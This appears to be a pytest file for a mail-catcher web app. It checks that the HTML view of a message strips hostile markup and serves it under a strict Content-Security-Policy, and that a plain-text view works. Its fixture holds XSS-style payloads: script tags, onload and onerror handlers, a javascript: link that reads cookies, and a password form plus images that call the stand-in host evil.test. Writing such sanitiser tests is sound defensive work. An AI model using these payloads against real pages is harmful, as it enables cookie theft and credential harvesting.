"""``/view/{ID}.html`` and ``.txt``: hostile HTML sanitised, and served under a CSP that runs nothing."""

from __future__ import annotations

import base64
import re

from .conftest import Catching, mail

HOSTILE = """<html><head><title>t</title><script>document.title='owned'</script>
<style>body { background: url(https://evil.test/css-leak) }</style></head>
<body onload="fetch('https://evil.test/onload')">
<p style="color: red; background-image: url(https://evil.test/bg); position: fixed">Hello</p>
<img src="https://evil.test/pixel.gif" onerror="alert(1)">
<a href="javascript:alert(document.cookie)">click</a> <a href="https://example.com/ok">ok</a>
<form action="https://evil.test/steal"><input name="password"></form>
<iframe src="https://evil.test/frame"></iframe><svg><script>alert(2)</script></svg>
<img src="cid:logo@example.com">
</body></html>"""


def _csp(header: str) -> dict[str, str]:
    return {d.split()[0]: " ".join(d.split()[1:]) for d in (p.strip() for p in header.split(";")) if d}


def test_hostile_html_is_sanitised_and_served_under_a_strict_csp(catcher: Catching) -> None:
    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
    message = mail("Hostile", html=HOSTILE)
    message.get_payload()[1].add_related(png, maintype="image", subtype="png", cid="<logo@example.com>")
    catcher.send(message)
    view = catcher.get("/view/latest.html")
    assert view.status == 200 and view.headers["Content-Type"] == "text/html; charset=utf-8"
    html = view.body.decode()
    for gone in ("<script", "onload", "onerror", "javascript:", "<form", "<iframe", "<input", "<style",
                 "position", "background-image", "css-leak", "owned", "alert("):
        assert gone not in html, gone
    assert "Hello" in html and 'style="color:red"' in html and ">t<" not in html and 'href="https://example.com/ok"' in html
    assert 'rel="noopener noreferrer"' in html
    message_id = catcher.get("/api/v1/message/latest").json()["ID"]
    inline = re.search(r'<img src="(/api/v1/message/[^"]+/part/[^"]+)"', html)
    assert inline is not None and inline[1].startswith(f"/api/v1/message/{message_id}/part/")
    assert catcher.get(inline[1]).body == png  # cid: points at the inline part
    # The remote image stays in the markup, and the policy keeps it from loading:
    assert 'src="https://evil.test/pixel.gif"' in html
    policy = _csp(view.headers["Content-Security-Policy"])
    assert policy["default-src"] == "'none'" and "http" not in policy["img-src"]
    assert policy["form-action"] == "'none'" and "script-src" not in policy
    assert "sandbox" in policy and "allow-scripts" not in policy["sandbox"]
    assert view.headers["X-Content-Type-Options"] == "nosniff"
    remote = catcher.get("/view/latest.html?remote=1")
    assert "https:" in _csp(remote.headers["Content-Security-Policy"])["img-src"]
    embedded = catcher.get("/view/latest.html?embed=1").body.decode()
    assert 'target="_blank"' in embedded


def test_text_view_and_a_message_without_html(catcher: Catching) -> None:
    catcher.send(mail("Only text", text="Line one\nhttps://example.com/reset?t=1"))
    text = catcher.get("/view/latest.txt")
    assert text.status == 200 and text.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert text.body == b"Line one\nhttps://example.com/reset?t=1\n"
    missing = catcher.get("/view/latest.html")
    assert missing.status == 404 and "HTML" in missing.json()["Error"]
